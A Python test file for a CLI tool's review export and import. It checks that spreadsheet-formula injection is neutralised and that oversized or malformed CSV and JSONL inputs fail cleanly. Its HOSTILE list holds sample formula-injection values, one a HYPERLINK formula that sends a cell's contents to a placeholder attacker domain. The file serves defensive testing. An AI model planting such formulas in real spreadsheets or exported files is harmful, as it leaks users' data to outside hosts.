"""Third attack, the labelling files (issue 33, items 16 and 17), through the real CLI.

- `review export` wrote span content as live spreadsheet formulas (`=HYPERLINK(…)`,
  `@SUM(…)`): cells starting with `=`, `+`, `-`, `@`, tab or CR are now written with a
  leading `'`, and `review import` strips it back (the round trip is lossless).
- A labelled export with a 180 KB answer could not be imported (`field larger than field
  limit`, exit 1 and a traceback): import reads every file export writes, and answers
  exit 2 naming file and line for a file it cannot read.
"""

from __future__ import annotations

import csv
import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import pytest

from tracepass.evaluator.offline import human_review

pytestmark = pytest.mark.slow  # starts a process or a server

TRACEPASS = Path(sys.executable).parent / "tracepass"

HOSTILE = [
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "'plain quote",
    "plain text",
]


def _run(*args: str) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [str(TRACEPASS), *args], capture_output=True, text=True, timeout=300, check=False
    )


def _results(answers: list[str]) -> dict[str, Any]:
    """An `evaluate --format json` document with one judged turn per answer."""
    return {
        "conversations": [
            {
                "conversation_id": f"c-{i}",
                "reference_id": "r",
                "turns": [
                    {
                        "index": 0,
                        "query": answer,
                        "answer": answer,
                        "expected_answer": "-expected",
                        "graders": [
                            {
                                "grader": "llm",
                                "passed": i % 2 == 0,
                                "score": 1.0,
                                "reasoning": answer,
                            }
                        ],
                    }
                ],
            }
            for i, answer in enumerate(answers)
        ]
    }


def _export(tmp_path: Path, answers: list[str]) -> Path:
    run = tmp_path / "run.json"
    run.write_text(json.dumps(_results(answers)), encoding="utf-8")
    out = tmp_path / "to_label.csv"
    done = _run("review", "export", str(run), "--sample", str(len(answers)), "-o", str(out))
    assert done.returncode == 0, done.stderr
    return out


def _label(exported: Path, labelled: Path) -> list[dict[str, str]]:
    """The exported rows, each labelled "pass" (as a labeller's spreadsheet saves them)."""
    previous = csv.field_size_limit(human_review.MAX_CELL_CHARS)
    try:
        with exported.open(newline="", encoding="utf-8") as f:
            rows = list(csv.DictReader(f))
    finally:
        csv.field_size_limit(previous)
    with labelled.open("w", newline="", encoding="utf-8") as f:
        writer = csv.DictWriter(f, fieldnames=list(rows[0]))
        writer.writeheader()
        for row in rows:
            writer.writerow({**row, "human_label": "pass"})
    return rows


def test_export_writes_no_live_formula_and_import_restores_the_text(tmp_path: Path) -> None:
    out = _export(tmp_path, HOSTILE)
    labelled = tmp_path / "labelled.csv"
    rows = _label(out, labelled)
    assert len(rows) == len(HOSTILE)
    for row, original in zip(rows, HOSTILE, strict=True):
        for column in ("query", "answer", "judge_reasoning"):
            cell = row[column]
            # What a spreadsheet sees: never a formula start.
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (column, cell)
            assert human_review.restore_cell(cell) == original
        assert row["expected"] == "'-expected"
    # Labelled and imported: every row reads back.
    done = _run("review", "import", str(labelled), "--format", "json")
    assert done.returncode == 0, done.stderr
    report = json.loads(done.stdout)
    assert report["n"] == len(HOSTILE)
    # The round trip is lossless: every record read back holds the exported text.
    records = human_review._read_records(labelled)
    assert [r["answer"] for _, r in records] == HOSTILE


def test_import_reads_a_long_answer_export_wrote(tmp_path: Path) -> None:
    long_answer = "x" * 180_000 + "\u2028 and a line separator"
    out = tmp_path / "labelled.csv"
    _label(_export(tmp_path, [long_answer, "short"]), out)
    done = _run("review", "import", str(out), "--format", "json")
    assert done.returncode == 0, done.stderr
    assert json.loads(done.stdout)["n"] == 2
    records = human_review._read_records(out)
    assert records[0][1]["answer"] == long_answer


@pytest.mark.parametrize(
    ("body", "line"),
    [
        # A cell beyond the limit (a file export never writes).
        (
            "judge_passed,human_label,answer\nTrue,pass,ok\nTrue,pass,"
            + "y" * (human_review.MAX_CELL_CHARS + 1)
            + "\n",
            3,
        ),
        ("judge_passed,human_label\nTrue,pass\nTrue,pa\x00ss\n", 3),
    ],
    ids=["over-the-limit", "nul"],
)
def test_unreadable_csv_is_exit_2_naming_file_and_line(
    tmp_path: Path, body: str, line: int
) -> None:
    path = tmp_path / "bad.csv"
    path.write_text(body, encoding="utf-8")
    done = _run("review", "import", str(path))
    assert done.returncode == 2, done.stderr
    assert "Traceback" not in done.stderr
    assert f"{path}:{line}" in " ".join(done.stderr.split()), done.stderr


def test_deeply_nested_jsonl_is_exit_2(tmp_path: Path) -> None:
    path = tmp_path / "bad.jsonl"
    path.write_text('{"judge_passed": true, "human_label": "pass"}\n' + "[" * 100_000 + "\n")
    done = _run("review", "import", str(path))
    assert done.returncode == 2, done.stderr
    assert "Traceback" not in done.stderr
    assert f"{path}:2" in " ".join(done.stderr.split())
